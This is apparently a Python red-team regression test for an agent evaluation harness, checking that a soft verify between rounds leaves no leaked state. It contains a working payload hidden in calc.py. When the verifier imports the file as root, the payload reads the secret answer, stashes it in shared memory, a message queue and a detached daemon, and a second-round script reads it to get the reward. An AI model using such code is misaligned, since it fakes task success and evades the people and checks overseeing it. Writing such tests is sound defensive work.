"""Red team: a soft verify between trial rounds leaves nothing in the kernel for round 2 (issue 32).

Round 1's "agent" (the oracle running solve.sh) plants an import-time payload in ``calc.py``; the
soft verify after round 1 imports it as root, with the hidden answer at hand. The payload puts the
answer where the fence's file restore and process kill do not look: a System V shared-memory
segment, a POSIX message queue (both mode 0666, in the sandbox's IPC namespace) and a detached
daemon (new session) that keeps offering it in ``/tmp``. Round 2's agent attaches to the segment,
opens the queue and reads ``/tmp``: before the verify ran in namespaces of its own
(`reroll_sidecar.verify_ns`) it read the answer from the segment and the final reward was 1.0;
now it finds nothing and the reward is 0.
"""

from __future__ import annotations

import json
import secrets
import subprocess
import sys
from pathlib import Path

import pytest

pytestmark = pytest.mark.slow
REROLL = str(Path(sys.executable).parent / "reroll")

PAYLOAD = r"""
import ctypes, os, subprocess
_verifier = os.environ.get("REROLL_VERIFIER_DIR", "/verifier")
if os.path.isdir(_verifier) and os.geteuid() == 0:
    _secret = open(os.path.join(_verifier, "secret.txt")).read().strip().encode()
    _libc = ctypes.CDLL(None, use_errno=True)
    _libc.shmat.restype = ctypes.c_void_p
    os.umask(0)
    _id = _libc.shmget(0x52524F4C, 4096, 0o1666)
    ctypes.memmove(_libc.shmat(_id, None, 0), _secret, len(_secret))
    _libc.mq_open.argtypes = [ctypes.c_char_p, ctypes.c_int, ctypes.c_uint, ctypes.c_void_p]
    _queue = _libc.mq_open(b"/reroll-leak", os.O_CREAT | os.O_RDWR, 0o666, None)
    _sent = _libc.mq_send(_queue, _secret, len(_secret), 0)
    print(f"PAYLOAD RAN: shm {_id}, mqueue {_queue}/{_sent}", flush=True)
    _daemon = f"sleep 2; while true; do echo {_secret.decode()} > /tmp/late-secret; sleep 0.2; done"
    subprocess.Popen(["setsid", "sh", "-c", f"sh -c '{_daemon}' >/dev/null 2>&1 &"])


def mean(values):
    return sum(values) / len(values)
"""

READER = r"""
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
found = []
shm = libc.shmget(0x52524F4C, 0, 0)
if shm >= 0:
    address = libc.shmat(shm, None, 0o10000)
    if address not in (None, ctypes.c_void_p(-1).value):
        found.append(("shm", ctypes.string_at(address, 60).split(b"\0")[0].decode()))
libc.mq_open.argtypes = [ctypes.c_char_p, ctypes.c_int]
queue = libc.mq_open(b"/reroll-leak", os.O_RDONLY | os.O_NONBLOCK)
if queue >= 0:
    buffer = ctypes.create_string_buffer(1 << 16)
    size = libc.mq_receive(queue, buffer, 1 << 16, None)
    if size > 0:
        found.append(("mqueue", buffer.raw[:size].decode()))
try:
    found.append(("tmp", open("/tmp/late-secret").read().strip()))
except OSError:
    pass
for where, secret in found:
    print(f"FOUND in {where}: {secret}")
    open("answer.txt", "w").write(secret)
if not found:
    print("FOUND NOTHING")
"""

SOLVE = """#!/bin/sh
cd "${REROLL_WORKSPACE:-/app}"
if [ ! -f .round1-done ]; then
  cat > calc.py <<'PAYLOAD_END'
@PAYLOAD@
PAYLOAD_END
  touch .round1-done
  exit 0
fi
sleep 4  # the daemon, were it alive, has written the secret by now
python3 - <<'READER_END'
@READER@
READER_END
exit 0
""".replace("@PAYLOAD@", PAYLOAD.strip()).replace("@READER@", READER.strip())

TEST_SH = """#!/bin/sh
# The answer is a secret only this folder holds; importing calc runs the agent's code.
WORKSPACE="${REROLL_WORKSPACE:-/app}"
LOGS="${REROLL_LOGS_DIR:-/logs}"
HERE="${REROLL_VERIFIER_DIR:-/verifier}"
mkdir -p "$LOGS/verifier"
cd "$WORKSPACE" && python3 -c "import calc"
if [ "$(cat answer.txt 2>/dev/null)" = "$(cat "$HERE/secret.txt")" ]; then
  echo 1 > "$LOGS/verifier/reward.txt"
else
  echo 0 > "$LOGS/verifier/reward.txt"
fi
"""

USER = """
def rounds(round, instruction, result):
    return f"round {round + 1}" if round < 2 else None
"""


def make_trial(root: Path) -> Path:
    """A two-round trial of a task whose answer only its verifier holds."""
    secret = f"SECRET-MARK-{secrets.token_hex(16)}"
    task = root / "secret-task"
    files = {
        "task.md": '---\n{"name": "secret-task", "verifier": {"timeout_sec": 60}, '
        '"environment": {"network": "none"}}\n---\nWrite the secret into answer.txt.\n',
        "environment/Dockerfile": "FROM reroll/base:bookworm\nCOPY workspace/ /app/\nWORKDIR /app\n",
        "environment/workspace/calc.py": "def mean(values):\n    return sum(values) / len(values)\n",
        "verifier/test.sh": TEST_SH,
        "verifier/secret.txt": secret + "\n",
        "oracle/solve.sh": SOLVE,
    }
    for name, text in files.items():
        (task / name).parent.mkdir(parents=True, exist_ok=True)
        (task / name).write_text(text)
    (root / "rounds_user.py").write_text(USER)
    trial = {
        "task": str(task),
        "scenes": [
            {"name": "s", "roles": [{"name": "solver"}], "user": "rounds_user.py:rounds", "max_rounds": 2}
        ],
    }
    (root / "trial.yaml").write_text(json.dumps(trial))
    return root / "trial.yaml"


def test_round_two_finds_no_ipc_object_or_daemon_of_the_soft_verify(
    sandbox_backend: str, tmp_path: Path
) -> None:
    trial = make_trial(tmp_path)
    args = ["run", "--trial", str(trial), "--agent", "oracle", "--sandbox", sandbox_backend]
    done = subprocess.run(
        [REROLL, *args, "--jobs-dir", str(tmp_path / "jobs"), "--job-name", "j"],
        capture_output=True,
        text=True,
        timeout=900,
        cwd=tmp_path,
    )
    print(done.stdout, done.stderr, sep="\n")
    (run,) = (tmp_path / "jobs" / "j").iterdir()
    result = json.loads((run / "result.json").read_text())
    soft = run / "verifier" / "rounds" / "0"
    assert "PAYLOAD RAN: shm" in (soft / "test-stdout.txt").read_text(), "the attack did not run"
    agent_output = "".join(p.read_text(errors="replace") for p in (run / "agent").rglob("*") if p.is_file())
    assert "FOUND NOTHING" in agent_output and "FOUND in" not in agent_output, agent_output[-3000:]
    assert result["status"] == "ok", result.get("error")
    assert result["rewards"] == {"reward": 0.0}
